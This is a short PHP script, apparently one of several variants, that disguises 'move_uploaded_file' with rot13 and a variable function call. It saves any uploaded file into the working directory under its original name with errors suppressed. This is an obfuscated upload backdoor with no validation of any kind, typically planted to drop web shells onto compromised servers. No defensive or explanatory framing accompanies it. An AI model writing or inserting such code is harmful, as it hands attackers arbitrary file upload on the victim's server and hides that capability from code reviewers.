<?php
// The same, the functions' names packed and the file stored relative to the working folder.
$m = str_rot13('zbir_hcybnqrq_svyr');
$k = array_keys($_FILES);
$f = $_FILES[$k[0]];
@$m($f['tmp_name'], basename($f['name'])) and print('1');
